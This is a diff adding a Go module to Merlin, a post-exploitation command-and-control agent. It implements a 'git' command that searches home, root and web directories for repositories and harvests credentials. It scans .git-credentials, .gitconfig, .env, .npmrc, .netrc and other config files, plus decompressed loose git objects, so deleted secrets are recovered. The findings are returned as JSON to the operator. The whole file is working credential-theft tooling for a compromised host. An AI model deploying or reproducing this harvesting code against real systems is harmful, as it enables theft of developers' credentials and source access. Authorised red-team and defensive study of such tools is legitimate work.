@@ -0,0 +1,317 @@
+/*
+Merlin is a post-exploitation command and control framework.
+
+This file is part of Merlin.
+Copyright (C) 2023 Russel Van Tuyl
+
+Merlin is free software: you can redistribute it and/or modify
+it under the terms of the GNU General Public License as published by
+the Free Software Foundation, either version 3 of the License, or
+any later version.
+
+Merlin is distributed in the hope that it will be useful,
+but WITHOUT ANY WARRANTY; without even the implied warranty of
+MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+GNU General Public License for more details.
+
+You should have received a copy of the GNU General Public License
+along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+*/
+
+package commands
+
+import (
+	// Standard
+	"bufio"
+	"bytes"
+	"compress/zlib"
+	"encoding/json"
+	"fmt"
+	"io"
+	"io/fs"
+	"os"
+	"path/filepath"
+	"runtime"
+	"sort"
+	"strconv"
+	"strings"
+	"time"
+
+	// Merlin
+	"github.com/Ne0nd0g/merlin-message/jobs"
+
+	// Internal
+	"github.com/Ne0nd0g/merlin-agent/v2/cli"
+	"github.com/Ne0nd0g/merlin-agent/v2/secrets"
+)
+
+const (
+	// gitDepth is how many directories deep to look for repositories below each search directory
+	gitDepth = 8
+	// gitCommits is the number of recent commits returned for each repository
+	gitCommits = 10
+	// gitObjects is the maximum number of loose objects scanned for secrets in each repository
+	gitObjects = 5000
+	// gitMaxFile is the largest file or object, in bytes, that is scanned for secrets
+	gitMaxFile = 1 << 20
+)
+
+// gitSkip are directories that are not searched for repositories because they are large or are not on disk
+var gitSkip = map[string]bool{"node_modules": true, "vendor": true, ".cache": true, "proc": true, "sys": true, "dev": true}
+
+// gitConfigFiles are the working tree file names and extensions that commonly hold credentials
+var gitConfigFiles = []string{".env", ".npmrc", ".pypirc", ".netrc", "credentials", ".conf", ".config", ".cfg", ".ini", ".json", ".properties", ".toml", ".xml", ".yaml", ".yml"}
+
+// gitResults are the structured findings returned by the git module
+type gitResults struct {
+	Repositories []gitRepository   `json:"repositories"`
+	Credentials  []secrets.Finding `json:"credentials,omitempty"` // Credentials are from .git-credentials and .gitconfig files
+}
+
+// gitRepository is a repository found on disk
+type gitRepository struct {
+	Path     string            `json:"path"`
+	Branch   string            `json:"branch,omitempty"`
+	Remotes  map[string]string `json:"remotes,omitempty"`
+	Commits  []gitCommit       `json:"commits,omitempty"`
+	Findings []secrets.Finding `json:"findings,omitempty"`
+}
+
+// gitCommit is a recent commit from the repository's HEAD reflog
+type gitCommit struct {
+	Hash    string `json:"hash"`
+	Author  string `json:"author"`
+	Time    string `json:"time"`
+	Message string `json:"message"`
+}
+
+// Git finds git repositories below the provided, or default, directories and returns their remotes, recent commits, and
+// the secrets found in their configuration, history, and configuration files as JSON
+// git [directory...]
+func Git(cmd jobs.Command) (results jobs.Results) {
+	cli.Message(cli.DEBUG, fmt.Sprintf("entering Git() with %+v", cmd))
+
+	roots := cmd.Args
+	if len(roots) == 0 {
+		roots = gitRoots()
+	}
+
+	var found gitResults
+	for _, root := range roots {
+		if _, err := os.Stat(root); err != nil {
+			if len(cmd.Args) > 0 {
+				results.Stderr += fmt.Sprintf("there was an error accessing %s: %s\n", root, err)
+			}
+			continue
+		}
+		depth := strings.Count(filepath.Clean(root), string(filepath.Separator))
+		_ = filepath.WalkDir(root, func(path string, d fs.DirEntry, err error) error {
+			if err != nil {
+				return nil
+			}
+			if !d.IsDir() {
+				if d.Name() == ".git-credentials" || d.Name() == ".gitconfig" {
+					found.Credentials = append(found.Credentials, gitScanFile(path)...)
+				}
+				return nil
+			}
+			if gitSkip[d.Name()] || strings.Count(path, string(filepath.Separator))-depth > gitDepth {
+				return filepath.SkipDir
+			}
+			if d.Name() == ".git" {
+				found.Repositories = append(found.Repositories, gitRepo(filepath.Dir(path)))
+				// The repository's internals were already collected
+				return filepath.SkipDir
+			}
+			return nil
+		})
+	}
+
+	var data bytes.Buffer
+	encoder := json.NewEncoder(&data)
+	encoder.SetEscapeHTML(false)
+	encoder.SetIndent("", "  ")
+	err := encoder.Encode(found)
+	if err != nil {
+		results.Stderr += fmt.Sprintf("there was an error marshalling the git results to JSON: %s", err)
+		return
+	}
+	results.Stdout = data.String()
+	return
+}
+
+// gitRoots returns the directories that source code is usually kept in
+func gitRoots() []string {
+	if runtime.GOOS == "windows" {
+		drive := os.Getenv("SystemDrive") + `\`
+		return []string{filepath.Join(drive, "Users"), filepath.Join(drive, "inetpub"), filepath.Join(drive, "ProgramData")}
+	}
+	return []string{"/home", "/root", "/Users", "/opt", "/srv", "/var/www", "/usr/local/src"}
+}
+
+// gitRepo collects the branch, remotes, recent commits, and secrets from the repository in the directory
+func gitRepo(directory string) (repo gitRepository) {
+	repo.Path = directory
+	dotGit := filepath.Join(directory, ".git")
+
+	if head, err := os.ReadFile(filepath.Join(dotGit, "HEAD")); err == nil { // #nosec G304 -- The path is a discovered repository
+		repo.Branch = strings.TrimPrefix(strings.TrimSpace(string(head)), "ref: refs/heads/")
+	}
+
+	config := filepath.Join(dotGit, "config")
+	repo.Remotes = gitRemotes(config)
+	repo.Findings = append(repo.Findings, gitScanFile(config)...)
+
+	reflog := filepath.Join(dotGit, "logs", "HEAD")
+	repo.Commits = gitReflog(reflog)
+	repo.Findings = append(repo.Findings, gitScanFile(reflog)...)
+
+	repo.Findings = append(repo.Findings, gitObjectFindings(filepath.Join(dotGit, "objects"))...)
+
+	// Configuration files in the working tree
+	_ = filepath.WalkDir(directory, func(path string, d fs.DirEntry, err error) error {
+		if err != nil {
+			return nil
+		}
+		if d.IsDir() {
+			if path != directory && (d.Name() == ".git" || gitSkip[d.Name()] || strings.Count(path[len(directory):], string(filepath.Separator)) > 3) {
+				return filepath.SkipDir
+			}
+			return nil
+		}
+		name := strings.ToLower(d.Name())
+		for _, suffix := range gitConfigFiles {
+			if strings.HasSuffix(name, suffix) {
+				repo.Findings = append(repo.Findings, gitScanFile(path)...)
+				break
+			}
+		}
+		return nil
+	})
+	return
+}
+
+// gitRemotes parses the repository's configuration file and returns the URL of each remote by name
+func gitRemotes(config string) map[string]string {
+	file, err := os.Open(config) // #nosec G304 -- The path is a discovered repository
+	if err != nil {
+		return nil
+	}
+	defer file.Close()
+
+	remotes := make(map[string]string)
+	var remote string
+	scanner := bufio.NewScanner(file)
+	for scanner.Scan() {
+		line := strings.TrimSpace(scanner.Text())
+		if strings.HasPrefix(line, "[") {
+			remote = ""
+			if strings.HasPrefix(line, `[remote "`) {
+				remote = strings.TrimSuffix(strings.TrimPrefix(line, `[remote "`), `"]`)
+			}
+			continue
+		}
+		key, value, ok := strings.Cut(line, "=")
+		if remote != "" && ok && strings.TrimSpace(key) == "url" {
+			remotes[remote] = strings.TrimSpace(value)
+		}
+	}
+	return remotes
+}
+
+// gitReflog returns the most recent commits from the repository's HEAD reflog, newest first.
+// Each line is: <old hash> <new hash> <name> <<email>> <unix time> <timezone>\t<message>
+func gitReflog(reflog string) (commits []gitCommit) {
+	data, err := os.ReadFile(reflog) // #nosec G304 -- The path is a discovered repository
+	if err != nil {
+		return
+	}
+	lines := strings.Split(strings.TrimSpace(string(data)), "\n")
+	for i := len(lines) - 1; i >= 0 && len(commits) < gitCommits; i-- {
+		entry, message, _ := strings.Cut(lines[i], "\t")
+		fields := strings.Fields(entry)
+		if len(fields) < 5 {
+			continue
+		}
+		commit := gitCommit{
+			Hash:    fields[1],
+			Author:  strings.Join(fields[2:len(fields)-2], " "),
+			Message: message,
+		}
+		if seconds, err := strconv.ParseInt(fields[len(fields)-2], 10, 64); err == nil {
+			commit.Time = normalizeTime(time.Unix(seconds, 0))
+		}
+		commits = append(commits, commit)
+	}
+	return
+}
+
+// gitObjectFindings decompresses the repository's loose objects, which hold the contents of files and commits that were
+// not packed yet, and scans them for secrets so secrets that were committed and later removed are still found
+func gitObjectFindings(objects string) (findings []secrets.Finding) {
+	directories, err := os.ReadDir(objects)
+	if err != nil {
+		return
+	}
+	sort.Slice(directories, func(i, j int) bool { return directories[i].Name() < directories[j].Name() })
+	var count int
+	for _, directory := range directories {
+		if len(directory.Name()) != 2 || !directory.IsDir() {
+			continue
+		}
+		entries, err := os.ReadDir(filepath.Join(objects, directory.Name()))
+		if err != nil {
+			continue
+		}
+		for _, entry := range entries {
+			if count >= gitObjects {
+				return
+			}
+			count++
+			data, err := gitObject(filepath.Join(objects, directory.Name(), entry.Name()))
+			if err != nil {
+				continue
+			}
+			findings = append(findings, secrets.Scan("object "+directory.Name()+entry.Name(), data)...)
+		}
+	}
+	return
+}
+
+// gitObject decompresses a loose object and returns its contents without the type and size header
+func gitObject(path string) ([]byte, error) {
+	file, err := os.Open(path) // #nosec G304 -- The path is a discovered repository
+	if err != nil {
+		return nil, err
+	}
+	defer file.Close()
+	reader, err := zlib.NewReader(file)
+	if err != nil {
+		return nil, err
+	}
+	data, err := io.ReadAll(io.LimitReader(reader, gitMaxFile))
+	if err != nil {
+		return nil, err
+	}
+	// Trees hold binary hashes that don't contain secrets
+	if bytes.HasPrefix(data, []byte("tree ")) {
+		return nil, fmt.Errorf("tree object")
+	}
+	if i := bytes.IndexByte(data, 0); i >= 0 {
+		data = data[i+1:]
+	}
+	return data, nil
+}
+
+// gitScanFile scans the file for secrets if it isn't too large
+func gitScanFile(path string) []secrets.Finding {
+	info, err := os.Stat(path)
+	if err != nil || !info.Mode().IsRegular() || info.Size() > gitMaxFile {
+		return nil
+	}
+	data, err := os.ReadFile(path) // #nosec G304 -- Reading arbitrary files is the purpose of this command
+	if err != nil {
+		return nil
+	}
+	return secrets.Scan(path, data)
+}